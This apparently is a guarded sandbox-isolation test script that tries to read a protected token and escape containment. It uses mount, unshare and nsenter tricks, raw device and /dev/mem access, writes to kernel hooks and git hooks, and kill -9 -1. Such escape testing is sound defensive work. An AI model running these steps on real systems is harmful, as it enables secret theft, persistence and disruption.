# What a hostile step does to get around what hides the host. Never outside of a sandbox: it mounts, moves and kills.
exec 2>&1
set +e
[ "$BATON_WORKSPACE" = /run/baton/workspace ] && [ "$(pwd -P)" = /run/baton/workspace ] && [ ! -e "$STATE/token" ] || exit 99
case "$(cat /proc/1/comm)" in sh | dash | bash) ;; *) exit 98 ;; esac
echo "== another way to the same folder"
mv "$PROJECT/.baton" "$PROJECT/moved" && find "$PROJECT/moved/state" -maxdepth 1 -type f -exec cat {} + && mv "$PROJECT/moved" "$PROJECT/.baton"
mv "$PROJECT" "$PROJECT-moved" && find "$PROJECT-moved/.baton/state" -maxdepth 1 -type f -exec cat {} + && mv "$PROJECT-moved" "$PROJECT"
above=$(dirname "$PROJECT")
mv "$above" "$above-moved" && find "$above-moved" -path '*/state/*' -maxdepth 4 -type f -exec cat {} + && mv "$above-moved" "$above"
ln "$STATE/token" "$HOME/token" && cat "$HOME/token"
mkdir -p "$HOME/m" "$HOME/u" "$HOME/w"
attempts='
umount "$STATE"; umount -l "$STATE"; find "$STATE" -maxdepth 1 -type f -exec cat {} +
mount --bind "$PROJECT" "$HOME/m" && find "$HOME/m" -path "*state/*" -maxdepth 3 -type f -exec cat {} +
mount --bind / "$HOME/m" && find "$HOME/m$STATE" -maxdepth 1 -type f -exec cat {} +
mount -t overlay overlay -o "lowerdir=$PROJECT,upperdir=$HOME/u,workdir=$HOME/w" "$HOME/m" && find "$HOME/m" -path "*state/*" -maxdepth 3 -type f -exec cat {} +
mount -o remount,rw / ; mount -o remount,rw,bind "$PROJECT" && touch "$PROJECT/planted" && echo "$HIT planted"
mount --move "$STATE" "$HOME/m" && find "$STATE" -maxdepth 1 -type f -exec cat {} +
mount -t proc proc "$HOME/m" && cat "$HOME"/m/[0-9]*/environ | tr "\0" "\n"
'
echo "== mounts"
eval "$attempts"
echo "== mounts, as root of namespaces of its own"
unshare --user --map-root-user --mount sh -c "$attempts"
unshare --user --map-root-user --mount --pid --fork sh -c "$attempts"
nsenter --target 1 --mount --pid --user find "$STATE" -maxdepth 1 -type f -exec cat {} +
nsenter --user=/proc/1/fd/8 --mount=/proc/1/fd/9 find "$STATE" -maxdepth 1 -type f -exec cat {} +
echo "== devices"
for device in $(awk 'NR > 2 { print "/dev/" $4 }' /proc/partitions) "$(awk '$5 == "/" { print $10; exit }' /proc/self/mountinfo)"; do
  head -c 1 "$device" >/dev/null && echo "$HIT opened $device"
  mount "$device" "$HOME/m" && echo "$HIT mounted $device"
done
awk 'NR > 2 { print $1, $2, $4 }' /proc/partitions | while read -r major minor name; do
  mknod "$HOME/$name" b "$major" "$minor" && head -c 1 "$HOME/$name" >/dev/null && echo "$HIT opened $name"
done
for file in /dev/mem /dev/kmem /dev/port /proc/kcore; do head -c 1 "$file" >/dev/null && echo "$HIT opened $file"; done
echo "== what the kernel would run, or do, outside"
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger /sys/kernel/uevent_helper $(find /sys/fs/cgroup -name release_agent -o -name cgroup.procs 2>/dev/null | head -40); do
  true >>"$file" && echo "$HIT opened $file"
done
echo "== what runs outside of the sandbox later"
for file in "$PROJECT/.git/hooks/post-checkout" "$PROJECT/.git/config" "$PROJECT/.baton/server.yml" "$REAL_HOME/.profile" "$INSTALLATION/runner/main.ts"; do
  true >>"$file" && echo "$HIT opened $file"
done
kill -9 -1
echo "== end"
exit 0
